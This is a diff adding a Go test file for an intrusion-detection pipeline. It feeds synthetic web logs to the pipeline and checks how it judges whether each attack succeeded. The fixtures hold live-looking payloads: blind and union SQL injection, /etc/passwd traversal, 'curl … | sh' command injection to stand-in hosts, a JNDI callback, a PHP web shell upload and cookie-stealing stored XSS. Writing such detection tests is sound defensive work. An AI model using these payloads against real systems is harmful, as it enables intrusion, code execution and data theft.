@@ -1,0 +1,241 @@
+package pipeline
+
+import (
+	"encoding/json"
+	"fmt"
+	"maps"
+	"net/url"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+)
+
+// log writes records of Nano, one second after another.
+type logOf struct {
+	t       *testing.T
+	now     time.Time
+	records [][]byte
+}
+
+func newLog(t *testing.T) *logOf {
+	return &logOf{t: t, now: time.Date(2026, 3, 20, 10, 0, 0, 0, time.UTC)}
+}
+
+// add writes a record of a client, whose answer took so long; more replaces fields.
+func (l *logOf) add(client, method, uri, answer string, took time.Duration, more map[string]string) {
+	l.t.Helper()
+	l.now = l.now.Add(time.Second)
+	const layout = "2006-01-02 15:04:05.000"
+	r := map[string]string{
+		"BEGIN_TIME": l.now.Format(layout), "END_TIME": l.now.Add(took).Format(layout),
+		"METHOD": method, "URL": uri, "DOMAIN": "shop.internal", "SRC_IP": client, "DST_IP": "10.2.0.9", "RETCODE": "200",
+		"REQ_HEADER": method + " " + uri + " HTTP/1.1\r\nUser-Agent: okhttp/4.12.0\r\n\r\n",
+		"RSP_HEADER": "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n", "RSP_BODY": answer,
+	}
+	maps.Copy(r, more)
+	text, err := json.Marshal(r)
+	if err != nil {
+		l.t.Fatal(err)
+	}
+	l.records = append(l.records, jsonRecord(l.t, string(text)))
+}
+
+// judged are the alerts of the log, by the number of their record, which is added under "n".
+func (l *logOf) judged(p *Pipeline) (all []map[string]any) {
+	l.t.Helper()
+	for _, alerts := range l.inspected(p) {
+		for _, a := range alerts {
+			all = append(all, a)
+		}
+	}
+	return all
+}
+
+func (l *logOf) inspected(p *Pipeline) (all [][]map[string]any) {
+	const atOnce = 500
+	for part := range slices.Chunk(l.records, atOnce) {
+		var chunk []byte
+		for _, r := range part {
+			chunk = append(chunk, newEvent(uint32(l.now.Unix()), r)...)
+		}
+		result := p.Process("t", chunk)
+		alerts := make([][]map[string]any, len(part))
+		for i, a := range read(l.t, result) {
+			n := result.Records[i]
+			alerts[n] = append(alerts[n], a)
+		}
+		all = append(all, alerts...)
+	}
+	l.records = nil
+	return all
+}
+
+// remembering is a pipeline without a past.
+func remembering(t *testing.T, properties ...string) *Pipeline {
+	t.Helper()
+	return confident(t, append([]string{"behavior=off", "state_path=" + filepath.Join(t.TempDir(), "state")}, properties...)...)
+}
+
+func path(of, value string) string { return of + "=" + url.QueryEscape(value) }
+
+// What became of an attack is told by records before and behind it.
+func TestOutcomeOfManyRecords(t *testing.T) {
+	const attacker = "10.9.9.9"
+	const page = "<html><h1>Products</h1></html>"
+	ordinary := func(l *logOf, clients int, answer string, took time.Duration) {
+		for n := range 4 * clients {
+			l.add(fmt.Sprint("10.1.0.", 1+n%clients), "GET", fmt.Sprint("/list?page=", n), answer, took, nil)
+		}
+	}
+	for name, c := range map[string]struct {
+		write    func(l *logOf)
+		outcome  string // of the last alert
+		evidence string
+	}{
+		"waited, usually quick": {func(l *logOf) {
+			ordinary(l, 3, page, 20*time.Millisecond)
+			l.add(attacker, "GET", path("/list?page", "1' and sleep(5)-- "), page, 5031*time.Millisecond, nil)
+		}, "success", "answered after 5.03 s, usually 0.02 s, as sleep(5"},
+		"waited, usually as long": {func(l *logOf) {
+			ordinary(l, 3, page, 6*time.Second)
+			l.add(attacker, "GET", path("/list?page", "1' and sleep(5)-- "), page, 5031*time.Millisecond, nil)
+		}, "unknown", "usually it takes"},
+		"two clients make nothing usual": {func(l *logOf) {
+			ordinary(l, 2, page, 6*time.Second)
+			l.add(attacker, "GET", path("/list?page", "1' and sleep(5)-- "), page, 5031*time.Millisecond, nil)
+		}, "success", "as sleep(5"},
+		"did not wait, as it did before": {func(l *logOf) {
+			l.add(attacker, "GET", path("/list?page", "1' and if(1=1,sleep(5),0)-- "), page, 5031*time.Millisecond, nil)
+			l.add(attacker, "GET", path("/list?page", "1' and if(ord(mid(user(),1,1))>64,sleep(5),0)-- "), page, 20*time.Millisecond, nil)
+		}, "success", "has waited for others"},
+
+		"usual answer": {func(l *logOf) {
+			ordinary(l, 3, page, 0)
+			l.add(attacker, "GET", path("/list?page", "../../../../etc/passwd"), page, 0, nil)
+		}, "failure", "usual answer"},
+		"usual answer to two": {func(l *logOf) {
+			ordinary(l, 2, page, 0)
+			l.add(attacker, "GET", path("/list?page", "../../../../etc/passwd"), page, 0, nil)
+		}, "unknown", ""},
+		"usual, and shows nothing": {func(l *logOf) {
+			ordinary(l, 3, page, 0)
+			l.add(attacker, "GET", path("/list?page", "1;curl http://198.51.100.7/x | sh"), page, 0, nil)
+		}, "unknown", ""},
+		"usual, and a signature": {func(l *logOf) {
+			ordinary(l, 3, "root:x:0:0:root:/root:/bin/bash\nbin:x:1:1:bin:/bin:/sbin/nologin\n", 0)
+			l.add(attacker, "GET", path("/list?page", "../../../../etc/passwd"), "root:x:0:0:root:/root:/bin/bash\nbin:x:1:1:bin:/bin:/sbin/nologin\n", 0, nil)
+		}, "success", "passwd"},
+
+		"the same to everything": {func(l *logOf) {
+			for n := range 5 {
+				p := fmt.Sprintf("%d' union select %d,password from users-- ", n, n)
+				l.add(attacker, "GET", path("/list?page", p), "<p>nothing for "+strings.ReplaceAll(p, "'", "&#39;")+"</p>", 0, nil)
+			}
+		}, "failure", "the same answer to 5 different payloads"},
+		"the same to four": {func(l *logOf) {
+			for n := range 4 {
+				l.add(attacker, "GET", path("/list?page", fmt.Sprintf("%d' union select %d,password from users-- ", n, n)), "<p>nothing</p>", 0, nil)
+			}
+		}, "unknown", ""},
+		"the same payload again": {func(l *logOf) {
+			for range 9 {
+				l.add(attacker, "GET", path("/list?page", "1' union select 1,password from users-- "), "<p>nothing</p>", 0, nil)
+			}
+		}, "unknown", ""},
+		"everywhere": {func(l *logOf) {
+			for _, uri := range []string{"/a", "/b", "/c"} {
+				l.add("10.1.0.7", "GET", uri, page, 0, nil)
+			}
+			l.add(attacker, "GET", "/.git/config", page, 0, nil)
+		}, "failure", "to everything"},
+
+		"true and false": {func(l *logOf) {
+			for _, p := range []string{"1' and 3412=3412", "1' and 3412=9924", "1' and 5512=5512"} {
+				answer := page
+				if strings.Contains(p, "9924") {
+					answer = "<html>none</html>"
+				}
+				l.add(attacker, "GET", path("/list?page", p+" and 'a'='a"), answer, 0, nil)
+			}
+			l.add(attacker, "GET", path("/list?page", "1' and ord(mid((select password from users limit 1),1,1))>64 and 'a'='a"), page, 0, nil)
+		}, "success", "true and false conditions differ"},
+		"true and false, blocked": {func(l *logOf) {
+			for _, p := range []string{"1' and 3412=3412", "1' and 3412=9924", "1' and 5512=5512", "1' and 5=9"} {
+				answer, status := page, "200"
+				if !strings.Contains(p, "9") {
+					answer, status = "blocked", "403"
+				}
+				l.add(attacker, "GET", path("/list?page", p+" and 'a'='a"), answer, 0, map[string]string{"RETCODE": status})
+			}
+		}, "unknown", ""},
+		"true and false, a page that changes": {func(l *logOf) {
+			for n, p := range []string{"1' and 3412=3412", "1' and 3412=9924", "1' and 5512=5512"} {
+				l.add(attacker, "GET", path("/list?page", p+" and 'a'='a"), fmt.Sprint("<p>visitor ", 1000+n), 0, nil)
+			}
+		}, "unknown", ""},
+
+		"called back": {func(l *logOf) {
+			l.add(attacker, "GET", path("/list?page", "${jndi:ldap://evil.example.net:1389/a}"), page, 0, nil)
+			l.add("10.2.0.9", "GET", "/a", "class", 0, map[string]string{"DOMAIN": "evil.example.net", "DST_IP": "198.51.100.7"})
+		}, "success", "10.2.0.9 asked evil.example.net, 1s after 10.9.9.9 told shop.internal to"},
+		"another calls": {func(l *logOf) {
+			l.add(attacker, "GET", path("/list?page", "${jndi:ldap://evil.example.net:1389/a}"), page, 0, nil)
+			l.add("10.2.0.8", "GET", "/a", "class", 0, map[string]string{"DOMAIN": "evil.example.net", "DST_IP": "198.51.100.7"})
+		}, "unknown", ""},
+		"calls there anyway": {func(l *logOf) {
+			call := map[string]string{"DOMAIN": "hooks.example.net", "DST_IP": "198.51.100.7"}
+			l.add("10.2.0.9", "GET", "/a", "ok", 0, call)
+			l.add(attacker, "GET", path("/list?page", "1;curl http://hooks.example.net/x | sh"), page, 0, nil)
+			l.add("10.2.0.9", "GET", "/a", "ok", 0, call)
+		}, "unknown", ""},
+		"upload, fetched": {func(l *logOf) {
+			upload(l, attacker)
+			l.add("10.9.9.8", "GET", "/files/cmd.php?c=1", "ok", 0, nil)
+		}, "success", "/files/cmd.php was fetched with 200"},
+		"upload, not there": {func(l *logOf) {
+			upload(l, attacker)
+			l.add("10.9.9.8", "GET", "/files/cmd.php", "no", 0, map[string]string{"RETCODE": "404"})
+		}, "unknown", "when somebody asks for it"},
+		"stored script": {func(l *logOf) {
+			l.add(attacker, "POST", "/comments", "thanks", 0, form("text=<script>alert(document.cookie)</script>"))
+			l.add("10.1.0.7", "GET", "/article/7", "<p>so</p><script>alert(document.cookie)</script>", 0, nil)
+		}, "success", "the page /article/7 has the script"},
+		"stored, escaped": {func(l *logOf) {
+			l.add(attacker, "POST", "/comments", "thanks", 0, form("text=<script>alert(document.cookie)</script>"))
+			l.add("10.1.0.7", "GET", "/article/7", "<p>so</p>&lt;script&gt;alert(document.cookie)&lt;/script&gt;", 0, nil)
+		}, "unknown", ""},
+	} {
+		t.Run(name, func(t *testing.T) {
+			l := newLog(t)
+			c.write(l)
+			alerts := l.judged(remembering(t, "mask=off"))
+			if len(alerts) == 0 {
+				t.Fatal("no alert")
+			}
+			last := alerts[len(alerts)-1]
+			if text := fmt.Sprint(last["outcome_evidence"]); last["outcome"] != c.outcome || !strings.Contains(text, c.evidence) {
+				t.Errorf("%v: %s", last["outcome"], text)
+			}
+			if c.outcome == "success" && last["severity"] != "1" {
+				t.Errorf("the severity is %v", last["severity"])
+			}
+		})
+	}
+}
+
+func form(body string) map[string]string {
+	return map[string]string{
+		"REQ_HEADER": fmt.Sprintf("POST /comments HTTP/1.1\r\nHost: shop.internal\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n", len(body)),
+		"REQ_BODY":   body,
+	}
+}
+
+func upload(l *logOf, client string) {
+	body := "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"cmd.php\"\r\nContent-Type: text/plain\r\n\r\n<?php system($_GET['c']); ?>\r\n--b--\r\n"
+	l.add(client, "POST", "/upload", "stored", 0, map[string]string{
+		"REQ_HEADER": fmt.Sprintf("POST /upload HTTP/1.1\r\nHost: shop.internal\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: %d\r\n\r\n", len(body)),
+		"REQ_BODY":   body,
+	})
+}
